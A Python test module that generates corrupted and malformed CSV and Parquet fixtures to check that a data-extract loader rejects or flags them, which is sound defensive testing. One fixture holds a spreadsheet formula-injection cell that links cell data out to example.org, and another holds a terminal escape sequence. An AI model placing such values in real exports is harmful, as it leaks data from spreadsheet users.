"""CSV and Parquet files that are damaged, in a wrong encoding, or not as they should be."""

import random
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

from tests.spec.extracts.broken_files import NATIVE, broken, patched


def lines(path: Path, *rows: str, encoding: str = "utf-8") -> None:
    path.write_bytes("".join(f"{row}\n" for row in rows).encode(encoding))


HEADER = "child_id,received_on,contact_source"


# Encodings


@broken("contact.csv", loads=2)
def utf_16_with_its_mark(path: Path) -> None:
    path.write_bytes(NATIVE.encode("utf-16"))


@broken("contact.csv", refused="seems to be UTF-16 text without its mark")
def utf_16_without_its_mark(path: Path) -> None:
    path.write_bytes(NATIVE.encode("utf-16-le"))


@broken("contact.csv", refused="seems to be UTF-16 text without its mark")
def utf_16_the_other_way_round_without_its_mark(path: Path) -> None:
    path.write_bytes(NATIVE.encode("utf-16-be"))


@broken("contact.csv", refused="is text in no encoding we know")
def utf_16_cut_in_a_letter(path: Path) -> None:
    path.write_bytes(NATIVE.encode("utf-16")[:-1])


@broken("early_help.csv", finds="read_as_windows_text", loads=1)
def windows_text(path: Path) -> None:
    lines(path, "child_id,started_on,organisation", "ash,2020-06-01,Café", encoding="cp1252")


@broken("contact.csv", refused="is text in no encoding we know")
def bytes_of_no_encoding(path: Path) -> None:
    path.write_bytes(NATIVE.encode() + b"\x81\x8d\x9d,2020-06-03\n")


@broken("contact.csv", refused="is neither a workbook nor text")
def noughts_at_the_start(path: Path) -> None:
    path.write_bytes(bytes(9) + NATIVE.encode())


@broken("contact.csv", refused="is neither a workbook nor text")
def noise_named_like_a_table(path: Path) -> None:
    path.write_bytes(random.Random(2).randbytes(4000) + b"\x00")


@broken("contact.csv", loads=2)
def noughts_far_down(path: Path) -> None:
    """They show nowhere, and are read as nothing."""
    lines(path, HEADER, *["ash,2020-06-01,6"] * 999, "birch,\x00\x002020-06-\x0001,6")


# Cells and lines


@broken("contact.csv", refused="holds no text")
def blank_lines_only(path: Path) -> None:
    path.write_text("\n , ,\n\n")


@broken("contact.csv", loads=0)
def a_header_and_no_rows(path: Path) -> None:
    lines(path, HEADER)


@broken("early_help.csv", refused="a quotation mark may have been opened and never closed")
def a_quotation_mark_never_closed(path: Path) -> None:
    lines(path, "child_id,started_on,organisation", 'ash,2020-06-01,"Smith', *["birch,2020-06-01,Jones"] * 8000)


@broken("early_help.csv", finds="is_one_cell_too_many", loads=1)
def a_comma_without_quotes_round_it(path: Path) -> None:
    lines(path, "child_id,started_on,organisation", "ash,2020-06-01,Smith, Jones", "birch,2020-06-01,Jones")


@broken("contact.csv", finds="is_blank", loads=2)
def a_file_cut_in_a_row(path: Path) -> None:
    path.write_text(NATIVE + "ced")


@broken("contact.csv", loads=2)
def line_ends_of_an_old_macintosh(path: Path) -> None:
    path.write_bytes(NATIVE.replace("\n", "\r").encode())


@broken("contact.csv", refused="holds more than")
def one_row_of_16384_headers_over_two_thousand_short_ones(path: Path) -> None:
    spare = ",".join(f"spare {at}" for at in range(16_382))
    lines(path, f"child_id,received_on,{spare}", *["ash,2020-06-01"] * 2000)


@broken("contact.csv", refused="cannot be split into cells")
def one_cell_of_a_million_letters(path: Path) -> None:
    lines(path, HEADER, f"ash,2020-06-01,{'x' * 1_000_000}")


@broken("contact.csv", finds="looks_like_a_note", loads=2)
def the_header_once_more(path: Path) -> None:
    lines(path, HEADER, "ash,2020-06-01,6", HEADER, "birch,2020-06-02,6")


@broken("contact.csv", finds="looks_like_a_note", loads=1)
def a_total_below(path: Path) -> None:
    lines(path, HEADER, "ash,2020-06-01,6", "Total,,1")


@broken("contact.csv", finds="is_not_a_date", loads=1)
def two_columns_swapped(path: Path) -> None:
    lines(path, HEADER, "ash,2020-06-01,6", "2020-06-02,birch,6")


@broken("contact.csv", finds="is_not_a_date", loads=1)
def the_31st_of_june(path: Path) -> None:
    lines(path, HEADER, "ash,2020-06-01,6", "birch,31/06/2020,6")


@broken("contact.csv", finds="is_not_an_id", loads=1)
def an_id_cut_short_by_excel(path: Path) -> None:
    lines(path, HEADER, "ash,2020-06-01,6", "1.23E+05,2020-06-01,6")


@broken("contact.csv", finds="is_not_a_known_code", loads=1)
def a_code_that_a_spreadsheet_would_run(path: Path) -> None:
    lines(path, HEADER, 'ash,2020-06-01,"=HYPERLINK(""http://example.org/?""&A1)"')


@broken("contact.csv", finds="is_not_a_known_code", loads=1)
def a_code_with_bells_in_it(path: Path) -> None:
    lines(path, HEADER, "ash,2020-06-01,\x07\x1b[31m6")


@broken("contact.csv", finds="coverage_assumed", loads=1)
def nobody_said_when_it_begins(path: Path) -> None:
    lines(path, HEADER, "ash,2020-06-01,6")


@broken("contact.csv", refused='no column for "received_on"')
def a_required_header_that_is_not_there(path: Path) -> None:
    lines(path, "child_id,recieved_onn,source", "ash,2020-06-01,6")


@broken("budget.csv", refused="its headers fit none of our tables")
def a_table_of_something_else(path: Path) -> None:
    lines(path, "cost centre,pounds", "A1,12")


@broken("contact.csv", refused="is a web page")
def a_web_page_instead_of_an_export(path: Path) -> None:
    path.write_text("<!DOCTYPE html><html><body>Your session has ended. Please sign in.</body></html>")


# Parquet


def table(path: Path, **columns: Sequence[object]) -> Path:
    pq.write_table(pa.table(dict(columns)), path)
    return path


@broken("contact.parquet", refused="is a damaged Parquet file")
def a_parquet_file_cut_short(path: Path) -> None:
    content = table(path, child_id=["ash"] * 999, received_on=["2020-06-01"] * 999).read_bytes()
    path.write_bytes(content[: len(content) // 2])


@broken("contact.parquet", refused="is a damaged Parquet file")
def a_parquet_file_with_a_footer_of_noise(path: Path) -> None:
    content = table(path, child_id=["ash"], received_on=["2020-06-01"]).read_bytes()
    path.write_bytes(content[:-60] + random.Random(3).randbytes(52) + content[-8:])


@broken("contact.parquet", refused="is a damaged Parquet file")
def a_parquet_file_with_a_page_of_noise(path: Path) -> None:
    table(path, child_id=[f"c{at}" for at in range(500)], received_on=["2020-06-01"] * 500)
    patched(path, (b"PAR1", -path.stat().st_size + 4 + 20, bytes(range(200))))


@broken("contact.parquet", refused='the column "child_id" holds lists or bytes')
def a_parquet_column_of_lists(path: Path) -> None:
    table(path, child_id=[["ash"]], received_on=["2020-06-01"])


@broken("contact.parquet", refused='the column "child_id" holds lists or bytes')
def a_parquet_column_of_bytes(path: Path) -> None:
    table(path, child_id=[b"ash"], received_on=["2020-06-01"])


@broken("contact.parquet", loads=0)
def a_parquet_file_without_rows(path: Path) -> None:
    pq.write_table(pa.table({"child_id": pa.array([], pa.string()), "received_on": pa.array([], pa.date32())}), path)


@broken("contact.parquet", refused="is a damaged Parquet file")
def a_parquet_moment_beyond_the_year_9999(path: Path) -> None:
    far = pa.array([2**62], pa.timestamp("us"))
    pq.write_table(pa.table({"child_id": ["ash"], "received_on": ["2020-06-01"], "received_at": far}), path)


@broken("contact.parquet", finds="is_blank", loads=1)
def a_parquet_row_of_nothing_but_an_id(path: Path) -> None:
    moments = [datetime(2020, 6, 1, 9, tzinfo=UTC), None]
    table(path, child_id=["ash", "birch"], received_on=["2020-06-01", None], received_at=moments)
